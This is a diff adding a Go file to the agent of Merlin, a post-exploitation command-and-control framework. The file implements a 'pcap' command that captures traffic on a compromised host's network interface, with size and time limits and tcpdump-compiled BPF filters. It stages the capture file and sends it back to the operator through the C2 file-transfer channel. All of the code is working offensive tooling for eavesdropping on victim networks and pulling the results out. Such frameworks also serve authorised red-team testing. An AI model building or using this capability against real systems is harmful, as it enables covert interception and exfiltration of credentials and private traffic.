@@ -0,0 +1,281 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"encoding/binary"
+	"fmt"
+	"regexp"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	// X Packages
+	"golang.org/x/net/bpf"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/staging"
+)
+
+const (
+	// snapLength is the largest packet that is captured
+	snapLength = 65535
+	// linkTypeEthernet is the pcap link type for packets with an Ethernet header
+	linkTypeEthernet = 1
+	// linkTypeRaw is the pcap link type for packets that start with the IP header
+	linkTypeRaw = 101
+	// defaultCaptureSeconds is how long a capture runs when a time limit is not provided
+	defaultCaptureSeconds = 60
+	// defaultCaptureMB is the largest capture file, in megabytes, when a size limit is not provided
+	defaultCaptureMB = 10
+)
+
+// bpfInstruction matches one instruction of a filter compiled with tcpdump -dd, such as { 0x28, 0, 0, 0x0000000c },
+var bpfInstruction = regexp.MustCompile(`\{\s*(0x[0-9a-fA-F]+|\d+)\s*,\s*(\d+)\s*,\s*(\d+)\s*,\s*(0x[0-9a-fA-F]+|\d+)\s*\}`)
+
+// captureSource reads packets from a network interface
+type captureSource interface {
+	// ReadPacket returns the next packet or nil if none arrived before the read timeout
+	ReadPacket() ([]byte, error)
+	// Close stops the capture
+	Close() error
+}
+
+// capture is the running or last finished packet capture, only one capture runs at a time
+var capture struct {
+	sync.Mutex
+	running bool
+	iface   string
+	started time.Time
+	packets int
+	size    int
+	stop    chan struct{}
+	done    chan struct{}
+	staged  string
+	err     error
+}
+
+// Pcap captures packets from a network interface into a pcap file that is held in the staging area and returned as a
+// file transfer, or retrieved in chunks with "staging download" when it is larger than a chunk. The filter is a classic BPF program compiled with tcpdump -dd, use -y EN10MB on Linux and
+// -y RAW on Windows where packets start with the IP header
+// pcap start <interface|any> [seconds] [max MB] [tcpdump -dd filter]
+// pcap status
+// pcap stop [chunk size in MB]
+func Pcap(cmd jobs.Command) (results jobs.Results, transfer *jobs.FileTransfer) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Pcap() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the pcap command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "start":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the pcap start command"
+			return
+		}
+		seconds, size := defaultCaptureSeconds, defaultCaptureMB
+		var err error
+		if len(cmd.Args) > 2 {
+			if seconds, err = strconv.Atoi(cmd.Args[2]); err != nil || seconds < 1 {
+				results.Stderr = fmt.Sprintf("%s is not a valid number of seconds", cmd.Args[2])
+				return
+			}
+		}
+		if len(cmd.Args) > 3 {
+			if size, err = strconv.Atoi(cmd.Args[3]); err != nil || size < 1 {
+				results.Stderr = fmt.Sprintf("%s is not a valid size in megabytes", cmd.Args[3])
+				return
+			}
+		}
+		var filter []bpf.RawInstruction
+		if len(cmd.Args) > 4 {
+			filter, err = parseFilter(strings.Join(cmd.Args[4:], " "))
+			if err != nil {
+				results.Stderr = err.Error()
+				return
+			}
+		}
+		if err = startCapture(cmd.Args[1], filter, time.Duration(seconds)*time.Second, size*1024*1024); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Started capturing packets on %s for up to %d seconds or %d MB", cmd.Args[1], seconds, size)
+	case "status":
+		capture.Lock()
+		defer capture.Unlock()
+		state := "stopped"
+		if capture.running {
+			state = "running"
+		}
+		results.Stdout = fmt.Sprintf("Capture on %s is %s, started %s, %d packets, %d bytes", capture.iface, state, capture.started.Format(time.RFC3339), capture.packets, capture.size)
+		if capture.staged != "" {
+			results.Stdout += fmt.Sprintf(", staged as %s", capture.staged)
+		}
+		if capture.err != nil {
+			results.Stderr = capture.err.Error()
+		}
+	case "stop":
+		chunk := defaultChunkMB
+		if len(cmd.Args) > 1 {
+			var err error
+			if chunk, err = strconv.Atoi(cmd.Args[1]); err != nil || chunk < 1 {
+				results.Stderr = fmt.Sprintf("%s is not a valid chunk size in megabytes", cmd.Args[1])
+				return
+			}
+		}
+		capture.Lock()
+		running, stop, done := capture.running, capture.stop, capture.done
+		capture.Unlock()
+		if running {
+			close(stop)
+			<-done
+		}
+		capture.Lock()
+		id, err := capture.staged, capture.err
+		capture.Unlock()
+		if err != nil {
+			results.Stderr = err.Error()
+		}
+		if id == "" {
+			results.Stderr += "there is no capture to return"
+			return
+		}
+		item, err := staging.Get(id)
+		if err != nil {
+			results.Stderr += err.Error()
+			return
+		}
+		results.Stdout, transfer = stageTransfer(item.Name, item.ID, item.Data, chunk)
+	default:
+		results.Stderr = fmt.Sprintf("unknown pcap command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// parseFilter parses a filter compiled with tcpdump -dd into raw BPF instructions
+func parseFilter(filter string) (instructions []bpf.RawInstruction, err error) {
+	for _, match := range bpfInstruction.FindAllStringSubmatch(filter, -1) {
+		var values [4]uint64
+		for i := range values {
+			if values[i], err = strconv.ParseUint(match[i+1], 0, 32); err != nil {
+				return nil, fmt.Errorf("there was an error parsing the BPF instruction %s: %s", match[0], err)
+			}
+		}
+		instructions = append(instructions, bpf.RawInstruction{Op: uint16(values[0]), Jt: uint8(values[1]), Jf: uint8(values[2]), K: uint32(values[3])})
+	}
+	if len(instructions) == 0 {
+		return nil, fmt.Errorf("the filter must be compiled with tcpdump -dd")
+	}
+	return
+}
+
+// startCapture opens the interface and captures packets in the background until it is stopped or a limit is reached
+func startCapture(iface string, filter []bpf.RawInstruction, duration time.Duration, limit int) error {
+	capture.Lock()
+	defer capture.Unlock()
+	if capture.running {
+		return fmt.Errorf("a capture is already running on %s", capture.iface)
+	}
+	source, linkType, err := openCapture(iface, filter)
+	if err != nil {
+		return fmt.Errorf("there was an error opening %s for capture: %s", iface, err)
+	}
+	// The previous capture stays in the staging area until it is deleted
+	capture.running, capture.iface, capture.started = true, iface, time.Now()
+	capture.packets, capture.size, capture.staged, capture.err = 0, 0, "", nil
+	capture.stop, capture.done = make(chan struct{}), make(chan struct{})
+
+	go func(stop <-chan struct{}, done chan<- struct{}, started time.Time) {
+		defer close(done)
+		var buf bytes.Buffer
+		// pcap global header
+		_ = binary.Write(&buf, binary.LittleEndian, []uint32{0xa1b2c3d4, 0x00040002, 0, 0, snapLength, linkType})
+		deadline := time.Now().Add(duration)
+		var err error
+		var packets int
+		for time.Now().Before(deadline) && buf.Len() < limit {
+			select {
+			case <-stop:
+				deadline = time.Now()
+				continue
+			default:
+			}
+			var packet []byte
+			packet, err = source.ReadPacket()
+			if err != nil {
+				break
+			}
+			if packet == nil {
+				continue
+			}
+			now := time.Now()
+			_ = binary.Write(&buf, binary.LittleEndian, []uint32{uint32(now.Unix()), uint32(now.Nanosecond() / 1000), uint32(len(packet)), uint32(len(packet))})
+			buf.Write(packet)
+			packets++
+			capture.Lock()
+			capture.packets = packets
+			capture.size = buf.Len()
+			capture.Unlock()
+		}
+		_ = source.Close()
+
+		id, stageErr := staging.Add(fmt.Sprintf("capture-%s-%s.pcap", strings.ReplaceAll(iface, " ", "_"), started.UTC().Format("20060102T150405Z")), buf.Bytes())
+		capture.Lock()
+		capture.running, capture.staged = false, id
+		if err == nil {
+			err = stageErr
+		}
+		capture.err = err
+		capture.Unlock()
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Packet capture on %s finished with %d packets staged as %s", iface, packets, id))
+		}
+	}(capture.stop, capture.done, capture.started)
+	return nil
+}
+
+// filterPacket runs the BPF program against the packet in user space and returns false if the packet is dropped
+func filterPacket(vm *bpf.VM, packet []byte) bool {
+	if vm == nil {
+		return true
+	}
+	n, err := vm.Run(packet)
+	return err == nil && n > 0
+}
+
+// filterVM converts the raw BPF instructions into a virtual machine for filtering packets in user space
+func filterVM(filter []bpf.RawInstruction) (*bpf.VM, error) {
+	if len(filter) == 0 {
+		return nil, nil
+	}
+	instructions, ok := bpf.Disassemble(filter)
+	if !ok {
+		return nil, fmt.Errorf("the BPF filter contains instructions that can not be run in user space")
+	}
+	return bpf.NewVM(instructions)
+}